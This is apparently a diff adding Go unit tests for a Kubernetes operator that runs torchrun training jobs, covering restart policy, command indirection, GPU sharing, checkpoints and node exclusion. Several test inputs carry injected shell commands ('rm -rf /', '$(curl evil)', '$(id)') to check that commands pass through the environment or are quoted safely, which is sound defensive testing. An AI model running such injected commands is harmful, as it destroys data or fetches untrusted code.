+			expectPolicy:        corev1.RestartPolicyNever,
+			expectBackoff:       0,
+			expectFailurePolicy: true,
+		},
+	}
+
+	for _, test := range tests {
+		job := &torchrunv1alpha1.TorchrunJob{
+			ObjectMeta: metav1.ObjectMeta{Name: "train", Namespace: "default"},
+			Spec:       torchrunv1alpha1.TorchrunJobSpec{JobName: "train", NumNodes: 2, Command: "python train.py", Reliability: test.reliability},
+		}
+		policy, backoff, failurePolicy := getRestartSemantics(job)
+		if policy != test.expectPolicy || backoff != test.expectBackoff || (failurePolicy != nil) != test.expectFailurePolicy {
+			t.Errorf("%s: got restartPolicy=%s backoffLimit=%d podFailurePolicy=%v", test.description, policy, backoff, failurePolicy)
+		}
+		if failurePolicy != nil {
+			rule := failurePolicy.Rules[len(failurePolicy.Rules)-1]
+			if rule.Action != batchv1.PodFailurePolicyActionFailJob || *rule.OnExitCodes.ContainerName != "trainer" {
+				t.Errorf("%s: expected a failed trainer to fail the Job, got %+v", test.description, rule)
+			}
+		}
+
+		jq := &torchrunv1alpha1.TorchrunQueue{Spec: torchrunv1alpha1.JobQueueSpec{}}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+		NewJobManager(fake.NewClientBuilder().Build(), true, config.Default()).attachTrainerCommand(job, jq, podSpec)
+		command := podSpec.Containers[0].Command[2]
+		if hasMaxRestarts := strings.Contains(command, "--max-restarts"); hasMaxRestarts != (test.expectMaxRestarts != "") ||
+			!strings.Contains(command, test.expectMaxRestarts) {
+			t.Errorf("%s: expected %q in the torchrun command, got %q", test.description, test.expectMaxRestarts, command)
+		}
+	}
+}
+
+func TestAttachTrainerCommandIndirection(t *testing.T) {
+	tests := []struct {
+		description  string
+		setupCommand string
+		command      string
+		expectScript string
+		expectEnv    map[string]string
+	}{
+		{
+			description:  "command is passed through the environment",
+			command:      "python train.py; rm -rf /",
+			expectScript: `torchrun --standalone --nproc-per-node 0 --rdzv-id 'default-0123abcd-train' --no-python /bin/bash -c "$TORCHRUN_COMMAND"`,
+			expectEnv:    map[string]string{"TORCHRUN_COMMAND": "python train.py; rm -rf /"},
+		},
+		{
+			description:  "setup command is evaluated from the environment",
+			setupCommand: "pip install -r requirements.txt $(curl evil)",
+			command:      "python train.py",
+			expectScript: `eval "$TORCHRUN_SETUP_COMMAND" && torchrun --standalone --nproc-per-node 0 --rdzv-id 'default-0123abcd-train' --no-python /bin/bash -c "$TORCHRUN_COMMAND"`,
+			expectEnv: map[string]string{
+				"TORCHRUN_SETUP_COMMAND": "pip install -r requirements.txt $(curl evil)",
+				"TORCHRUN_COMMAND":       "python train.py",
+			},
+		},
+	}
+
+	for _, test := range tests {
+		jq := &torchrunv1alpha1.TorchrunQueue{}
+		job := &torchrunv1alpha1.TorchrunJob{
+			ObjectMeta: metav1.ObjectMeta{Namespace: "default"},
+			Spec: torchrunv1alpha1.TorchrunJobSpec{
+				JobName:      "train",
+				JobID:        "0123abcd",
+				NumNodes:     1,
+				SetupCommand: test.setupCommand,
+				Command:      test.command,
+			},
+		}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+
+		NewJobManager(fake.NewClientBuilder().Build(), true, config.Default()).attachTrainerCommand(job, jq, podSpec)
+		if got := podSpec.Containers[0].Command[2]; got != test.expectScript {
+			t.Errorf("%s: expected script %q, got %q", test.description, test.expectScript, got)
+		}
+		env := map[string]string{}
+		for _, e := range podSpec.Containers[0].Env {
+			env[e.Name] = e.Value
+		}
+		if !reflect.DeepEqual(env, test.expectEnv) {
+			t.Errorf("%s: expected env %v, got %v", test.description, test.expectEnv, env)
+		}
+	}
+}
+
+func TestAttachDebugCommand(t *testing.T) {
+	tests := []struct {
+		description  string
+		mode         string
+		expectIdle   bool
+		expectLaunch string
+	}{
+		{
+			description: "training jobs run torchrun",
+			mode:        torchrunv1alpha1.ModeTrain,
+		},
+		{
+			description:  "debug jobs idle with the launch command in the environment",
+			mode:         torchrunv1alpha1.ModeDebug,
+			expectIdle:   true,
+			expectLaunch: `torchrun --standalone --nproc-per-node $$(nproc) --no-python /bin/bash -c "$TORCHRUN_COMMAND"`,
+		},
+	}
+
+	for _, test := range tests {
+		job := &torchrunv1alpha1.TorchrunJob{Spec: torchrunv1alpha1.TorchrunJobSpec{Mode: test.mode, NumNodes: 1}}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{
+			Name:    "trainer",
+			Command: []string{"/bin/bash", "-c", `torchrun --standalone --nproc-per-node $(nproc) --no-python /bin/bash -c "$TORCHRUN_COMMAND"`},
+		}}}
+
+		attachDebugCommand(job, podSpec)
+		trainer := podSpec.Containers[0]
+		if idle := trainer.Command[2] == debugIdleScript; idle != test.expectIdle {
+			t.Errorf("%s: expected idle command %v, got %q", test.description, test.expectIdle, trainer.Command[2])
+		}
+		launch := ""
+		for _, e := range trainer.Env {
+			if e.Name == "TORCHRUN_LAUNCH_COMMAND" {
+				launch = e.Value
+			}
+		}
+		if launch != test.expectLaunch {
+			t.Errorf("%s: expected launch command %q, got %q", test.description, test.expectLaunch, launch)
+		}
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	tests := []struct {
+		description string
+		value       string
+		expect      string
+	}{
+		{description: "plain value", value: "train", expect: `'train'`},
+		{description: "single quotes are escaped", value: "it's", expect: `'it'\''s'`},
+		{description: "expansions are literal", value: "$(id); `id`", expect: "'$(id); `id`'"},
+	}
+
+	for _, test := range tests {
+		if got := shellQuote(test.value); got != test.expect {
+			t.Errorf("%s: expected %s, got %s", test.description, test.expect, got)
+		}
+	}
+}
+
+func TestAttachGPUSharing(t *testing.T) {
+	jq := &torchrunv1alpha1.TorchrunQueue{Spec: torchrunv1alpha1.JobQueueSpec{Queue: torchrunv1alpha1.QueueConfig{Name: "dev"}}}
+
+	tests := []struct {
+		description      string
+		gpuFraction      string
+		gpuMemory        int32
+		expectAnnotation string
+		expectValue      string
+		expectGPUs       bool
+		expectNproc      string
+	}{
+		{
+			description: "whole GPUs are requested and run one process each",
+			expectGPUs:  true,
+			expectNproc: "--nproc-per-node 8 ",
+		},
+		{
+			description:      "GPU fraction replaces the GPU request",
+			gpuFraction:      "0.5",
+			expectAnnotation: "gpu-fraction",
+			expectValue:      "0.5",
+			expectNproc:      "--nproc-per-node 1 ",
+		},
+		{
+			description:      "GPU memory replaces the GPU request",
+			gpuMemory:        4096,
+			expectAnnotation: "gpu-memory",
+			expectValue:      "4096",
+			expectNproc:      "--nproc-per-node 1 ",
+		},
+	}
+
+	for _, test := range tests {
+		job := &torchrunv1alpha1.TorchrunJob{
+			Spec: torchrunv1alpha1.TorchrunJobSpec{
+				JobName:     "train",
+				NumNodes:    2,
+				Command:     "python train.py",
+				GPUFraction: test.gpuFraction,
+				GPUMemory:   test.gpuMemory,
+			},
+		}
+		gpus := corev1.ResourceList{gpuResourceName: resource.MustParse("8")}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{
+			Name:      "trainer",
+			Resources: corev1.ResourceRequirements{Requests: gpus.DeepCopy(), Limits: gpus.DeepCopy()},
+		}}}
+
+		jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+		jm.attachTrainerCommand(job, jq, podSpec)
+		jm.attachGPUSharing(job, podSpec)
+		annotations := jm.buildPodAnnotations(job, jq)
+
+		resources := podSpec.Containers[0].Resources
+		_, requested := resources.Requests[gpuResourceName]
+		_, limited := resources.Limits[gpuResourceName]
+		if requested != test.expectGPUs || limited != test.expectGPUs {
+			t.Errorf("%s: expected GPU request %v, got %v", test.description, test.expectGPUs, resources)
+		}
+		if !strings.Contains(podSpec.Containers[0].Command[2], test.expectNproc) {
+			t.Errorf("%s: expected %q in %q", test.description, test.expectNproc, podSpec.Containers[0].Command[2])
+		}
+		for _, key := range []string{"gpu-fraction", "gpu-memory"} {
+			value, found := annotations[key]
+			if key == test.expectAnnotation && value != test.expectValue {
+				t.Errorf("%s: expected %s annotation %q, got %q", test.description, key, test.expectValue, value)
+			} else if key != test.expectAnnotation && found {
+				t.Errorf("%s: expected no %s annotation, got %q", test.description, key, value)
+			}
+		}
+	}
+}
+
+func TestAttachCheckpoints(t *testing.T) {
+	tests := []struct {
+		description string
+		checkpoints *torchrunv1alpha1.CheckpointConfig
+		resumeCount int32
+		expectMount *corev1.VolumeMount
+		expectEnv   []corev1.EnvVar
+	}{
+		{
+			description: "job without checkpoints gets no mount",
+		},
+		{
+			description: "checkpoint directory of the job name is mounted",
+			checkpoints: &torchrunv1alpha1.CheckpointConfig{Volume: "checkpoints"},
+			expectMount: &corev1.VolumeMount{Name: "checkpoints", MountPath: "/checkpoints", SubPath: "train"},
+			expectEnv:   []corev1.EnvVar{{Name: "TORCHRUN_CHECKPOINT_DIR", Value: "/checkpoints"}},
+		},
+		{
+			description: "resumed job is told its resume count",
+			checkpoints: &torchrunv1alpha1.CheckpointConfig{Volume: "checkpoints", MountPath: "/ckpt"},
+			resumeCount: 2,
+			expectMount: &corev1.VolumeMount{Name: "checkpoints", MountPath: "/ckpt", SubPath: "train"},
+			expectEnv: []corev1.EnvVar{
+				{Name: "TORCHRUN_CHECKPOINT_DIR", Value: "/ckpt"},
+				{Name: "TORCHRUN_RESUME_COUNT", Value: "2"},
+			},
+		},
+	}
+
+	for _, test := range tests {
+		job := &torchrunv1alpha1.TorchrunJob{
+			Spec:   torchrunv1alpha1.TorchrunJobSpec{JobName: "train", Checkpoints: test.checkpoints},
+			Status: torchrunv1alpha1.TorchrunJobStatus{ResumeCount: test.resumeCount},
+		}
+		podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}}}
+
+		NewJobManager(fake.NewClientBuilder().Build(), true, config.Default()).attachCheckpoints(job, podSpec)
+		trainer := podSpec.Containers[0]
+		if test.expectMount == nil && len(trainer.VolumeMounts) > 0 {
+			t.Errorf("%s: expected no mounts, got %v", test.description, trainer.VolumeMounts)
+		}
+		if test.expectMount != nil && (len(trainer.VolumeMounts) != 1 || trainer.VolumeMounts[0] != *test.expectMount) {
+			t.Errorf("%s: expected mount %v, got %v", test.description, *test.expectMount, trainer.VolumeMounts)
+		}
+		if !reflect.DeepEqual(trainer.Env, test.expectEnv) {
+			t.Errorf("%s: expected env %v, got %v", test.description, test.expectEnv, trainer.Env)
+		}
+	}
+}
+
+func TestAttachVolumeShorthands(t *testing.T) {
+	items := []corev1.KeyToPath{{Key: "token", Path: "hf-token"}}
+	job := &torchrunv1alpha1.TorchrunJob{Spec: torchrunv1alpha1.TorchrunJobSpec{
+		SecretMounts:    []torchrunv1alpha1.SecretMount{{SecretName: "hf-credentials", MountPath: "/secrets/hf", Items: items}},
+		ConfigMapMounts: []torchrunv1alpha1.ConfigMapMount{{Name: "train-config", MountPath: "/etc/train"}},
+	}}
+	podSpec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "trainer"}, {Name: "logger"}}}
+
+	NewJobManager(fake.NewClientBuilder().Build(), true, config.Default()).attachVolumes(job, &torchrunv1alpha1.TorchrunQueue{}, podSpec)
+
+	expectVolumes := []corev1.Volume{
+		{Name: "secret-mount-0", VolumeSource: corev1.VolumeSource{
+			Secret: &corev1.SecretVolumeSource{SecretName: "hf-credentials", Items: items},
+		}},
+		{Name: "configmap-mount-0", VolumeSource: corev1.VolumeSource{
+			ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "train-config"}},
+		}},
+	}
+	if !reflect.DeepEqual(podSpec.Volumes, expectVolumes) {
+		t.Errorf("expected volumes %v, got %v", expectVolumes, podSpec.Volumes)
+	}
+	expectMounts := []corev1.VolumeMount{
+		{Name: "secret-mount-0", MountPath: "/secrets/hf", ReadOnly: true},
+		{Name: "configmap-mount-0", MountPath: "/etc/train", ReadOnly: true},
+	}
+	if !reflect.DeepEqual(podSpec.Containers[0].VolumeMounts, expectMounts) {
+		t.Errorf("expected trainer mounts %v, got %v", expectMounts, podSpec.Containers[0].VolumeMounts)
+	}
+	if len(podSpec.Containers[1].VolumeMounts) > 0 {
+		t.Errorf("expected no sidecar mounts, got %v", podSpec.Containers[1].VolumeMounts)
+	}
+}
+
+func TestGetRdzvID(t *testing.T) {
+	tests := []struct {
+		description string
+		rdzvID      string
+		jobCreated  bool
+		expectID    string
+	}{
+		{
+			description: "new jobs are prefixed with the namespace and job id",
+			expectID:    "team-nlp-0123abcd-train",
+		},
+		{
+			description: "jobs keep the id of their first Job",
+			rdzvID:      "team-nlp-4567ef01-train",
+			jobCreated:  true,
+			expectID:    "team-nlp-4567ef01-train",
+		},
+		{
+			description: "jobs created before the prefix keep the job name",
+			jobCreated:  true,
+			expectID:    "train",
+		},
+	}
+
+	for _, test := range tests {
+		job := &torchrunv1alpha1.TorchrunJob{
+			ObjectMeta: metav1.ObjectMeta{Namespace: "team-nlp"},
+			Spec:       torchrunv1alpha1.TorchrunJobSpec{JobName: "train", JobID: "0123abcd"},
+			Status:     torchrunv1alpha1.TorchrunJobStatus{RdzvID: test.rdzvID},
+		}
+		if test.jobCreated {
+			job.Status.Conditions = []torchrunv1alpha1.TorchrunJobCondition{{Type: "JobCreated", Status: "True"}}
+		}
+		if id := getRdzvID(job); id != test.expectID {
+			t.Errorf("%s: expected rendezvous id %q, got %q", test.description, test.expectID, id)
+		}
+	}
+}
+
+func TestAttachNodeExclusion(t *testing.T) {
+	jm := NewJobManager(fake.NewClientBuilder().Build(), true, config.Default())
+	excludeNode := func(node string) corev1.NodeSelectorRequirement {
+		return corev1.NodeSelectorRequirement{Key: "metadata.name", Operator: corev1.NodeSelectorOpNotIn, Values: []string{node}}
+	}
+	poolA100 := corev1.NodeSelectorRequirement{Key: "pool", Operator: corev1.NodeSelectorOpIn, Values: []string{"a100"}}
+	poolH100 := corev1.NodeSelectorRequirement{Key: "pool", Operator: corev1.NodeSelectorOpIn, Values: []string{"h100"}}
+
+	tests := []struct {
+		description   string
+		affinity      string
+		excludedNodes []string
+		excludedLabel map[string]string
+		suspectNodes  []torchrunv1alpha1.SuspectNode
+		attempt       int32
+		expectTerms   []corev1.NodeSelectorTerm
+	}{
+		{
+			description: "job without exclusions",
+		},
+		{
+			description:   "excluded nodes and labels",
+			excludedNodes: []string{"gpu-node-3", "gpu-node-7"},
+			excludedLabel: map[string]string{"example.com/ecc-errors": "", "example.com/gpu-health": "degraded"},
+			expectTerms: []corev1.NodeSelectorTerm{{
+				MatchFields: []corev1.NodeSelectorRequirement{excludeNode("gpu-node-3"), excludeNode("gpu-node-7")},
+				MatchExpressions: []corev1.NodeSelectorRequirement{
+					{Key: "example.com/ecc-errors", Operator: corev1.NodeSelectorOpDoesNotExist},
+					{Key: "example.com/gpu-health", Operator: corev1.NodeSelectorOpNotIn, Values: []string{"degraded"}},
+				},
+			}},
+		},
+		{
+			description: "every term of the pod template excludes the nodes",
+			affinity: `"affinity":{"nodeAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":{"nodeSelectorTerms":[` +
+				`{"matchExpressions":[{"key":"pool","operator":"In","values":["a100"]}]},` +
+				`{"matchExpressions":[{"key":"pool","operator":"In","values":["h100"]}]}]}}},`,
+			excludedNodes: []string{"gpu-node-3"},
+			expectTerms: []corev1.NodeSelectorTerm{
+				{MatchExpressions: []corev1.NodeSelectorRequirement{poolA100}, MatchFields: []corev1.NodeSelectorRequirement{excludeNode("gpu-node-3")}},
+				{MatchExpressions: []corev1.NodeSelectorRequirement{poolH100}, MatchFields: []corev1.NodeSelectorRequirement{excludeNode("gpu-node-3")}},
+			},
+		},
+		{
+			description:   "suspect nodes of earlier attempts are excluded",
+			excludedNodes: []string{"gpu-node-3"},
+			suspectNodes: []torchrunv1alpha1.SuspectNode{
+				{Node: "gpu-node-3", Attempt: 1},
+				{Node: "gpu-node-5", Attempt: 1},
+				{Node: "gpu-node-6", Attempt: 2},
+			},
+			attempt: 2,
+			expectTerms: []corev1.NodeSelectorTerm{{
+				MatchFields: []corev1.NodeSelectorRequirement{excludeNode("gpu-node-3"), excludeNode("gpu-node-5")},
+			}},
+		},
+		{
+			description:  "suspect nodes of the current attempt are not excluded",
+			suspectNodes: []torchrunv1alpha1.SuspectNode{{Node: "gpu-node-5", Attempt: 1}},
+		},
+	}
+
+	for _, test := range tests {
+		jq := &torchrunv1alpha1.TorchrunQueue{Spec: torchrunv1alpha1.JobQueueSpec{
+			PodTemplateConfig: torchrunv1alpha1.PodTemplateConfig{Spec: runtime.RawExtension{Raw: []byte(
+				`{` + test.affinity + `"containers":[{"name":"trainer","image":"pytorch:2.2"}]}`)}},
+		}}
+		job := &torchrunv1alpha1.TorchrunJob{
+			Spec: torchrunv1alpha1.TorchrunJobSpec{
+				ExcludedNodes:      test.excludedNodes,
+				ExcludedNodeLabels: test.excludedLabel,
+			},
+			Status: torchrunv1alpha1.TorchrunJobStatus{SuspectNodes: test.suspectNodes, Attempt: test.attempt},
+		}
+
+		podSpec, err := getPodSpec(job, jq)
+		if err != nil {
+			t.Fatalf("%s: getPodSpec() error = %v", test.description, err)
+		}
+		jm.attachNodeExclusion(job, &podSpec)
+
+		var terms []corev1.NodeSelectorTerm
+		if podSpec.Affinity != nil && podSpec.Affinity.NodeAffinity != nil && podSpec.Affinity.NodeAffinity.RequiredDuringSchedulingIgnoredDuringExecution != nil {
+			terms = podSpec.Affinity.NodeAffinity.RequiredDuringSchedulingIgnoredDuringExecution.NodeSelectorTerms
+		}
+		if !reflect.DeepEqual(terms, test.expectTerms) {
+			t.Errorf("%s: expected node selector terms %+v, got %+v", test.description, test.expectTerms, terms)
+		}
+	}
+}